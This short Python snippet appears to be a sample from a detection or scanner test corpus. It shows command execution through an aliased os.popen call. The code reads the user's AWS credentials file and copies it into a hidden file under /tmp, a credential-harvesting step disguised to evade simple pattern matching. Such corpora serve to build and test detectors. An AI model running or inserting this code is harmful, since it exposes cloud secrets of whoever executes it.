# corpus: command execution via os.popen referenced through a local variable alias
import os

runner = os.popen
result = runner("cat ~/.aws/credentials 2>/dev/null || true").read()
open("/tmp/.creds", "w").write(result)
